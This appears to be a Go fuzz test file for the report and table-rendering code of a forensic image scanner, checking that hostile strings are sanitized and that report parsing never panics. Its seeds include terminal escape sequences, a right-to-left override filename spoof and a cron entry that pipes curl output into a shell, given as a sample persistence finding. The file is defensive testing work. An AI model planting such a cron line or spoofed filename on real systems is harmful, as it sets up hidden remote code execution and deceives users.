package report

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzTableText feeds arbitrary strings from "the image" through the table's
// text path. Whatever the bytes, the result is valid UTF-8, holds no raw
// control or bidi characters, and every line fits the width.
func FuzzTableText(f *testing.F) {
	for _, s := range []string{"", "plain", "\x1b[2J\x1b[H", "a\xffb\xfe", "路径/文件/很长很长", "rtl\u202eexe.txt", "tab\tnl\ncr\r", strings.Repeat("/a", 200)} {
		f.Add(s, 10)
	}
	f.Fuzz(func(t *testing.T, s string, w int) {
		w = 1 + abs(w)%120
		c := clean(s)
		if !utf8.ValidString(c) {
			t.Fatalf("clean(%q) is not UTF-8", s)
		}
		for _, r := range c {
			if r < 0x20 || r == 0x7f || unsafeRune(r) {
				t.Fatalf("clean(%q) kept %U", s, r)
			}
		}
		for _, line := range wrap(c, max(w, 2)) {
			if width(line) > max(w, 2) {
				t.Fatalf("wrap(clean(%q), %d): line %q is %d wide", s, w, line, width(line))
			}
		}
		if tr := truncate(c, w); width(tr) > w {
			t.Fatalf("truncate(%q, %d) = %q is %d wide", c, w, tr, width(tr))
		}
	})
}

// FuzzTable renders a report whose strings are fuzzed and checks the whole
// table stays within the width and renders the same twice. The report is
// the smallest that fills every section the strings reach (one volume,
// finding, error and inventory item): each section costs a table, and the
// sample report's dozen made the target run 20 inputs a second.
func FuzzTable(f *testing.F) {
	f.Add("/etc/cron.d/x", "*/5 * * * * curl x | sh", "cron.dl", "v@1", 100)
	f.Add(strings.Repeat("\x1b", 50), strings.Repeat("長", 90), "", "", 60)
	f.Fuzz(func(t *testing.T, path, match, rule, vol string, w int) {
		w = MinWidth + abs(w)%100
		render := func() string {
			r := &Report{
				Tool: "snapscan", Version: "fuzz", Image: "/evidence/" + vol + ".img",
				Volumes:   []Volume{{Name: vol, Index: 1, Size: 1 << 20, Filesystem: "ext4", Label: rule, Scanned: true}},
				Findings:  []Finding{{Rule: rule, Check: "cron", Title: match, Severity: Critical, Technique: "T1053.003", Evidence: Evidence{Volume: vol, Path: path, Line: 3, Match: match}}},
				Errors:    []ScanError{{Stage: "cron", Volume: vol, Path: path, Error: match}},
				Inventory: []InventoryItem{{Kind: "cron", Volume: vol, Path: path, Summary: match}},
			}
			Finalize(r)
			var buf bytes.Buffer
			if err := WriteTable(&buf, r, WriteOptions{Inventory: true, Width: w}); err != nil {
				t.Fatal(err)
			}
			return buf.String()
		}
		out := render()
		if mw, line := maxLineWidth(out); mw > w {
			t.Fatalf("line is %d wide, limit %d: %q", mw, w, line)
		}
		if again := render(); again != out {
			t.Fatalf("the same report rendered differently:\n%s\n---\n%s", out, again)
		}
	})
}

func abs(i int) int {
	if i < 0 {
		if i == -i { // math.MinInt
			return 0
		}
		return -i
	}
	return i
}

// FuzzReadReports: merge and baseline read files from other runs; garbage
// is an error, never a panic.
func FuzzReadReports(f *testing.F) {
	f.Add([]byte(`{"schema":"1.0","image":"a"}` + "\n" + `[{"schema":"1.0"}]`))
	f.Add([]byte(`{"schema":"1.0","findings":[{"severity":"bogus"}]}`))
	f.Add([]byte(`[[{}]]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := ReadReports(bytes.NewReader(data))
		if err == nil {
			for _, r := range rs {
				if r == nil || r.Schema == "" {
					t.Fatal("accepted a record that is not a report")
				}
			}
		}
	})
}
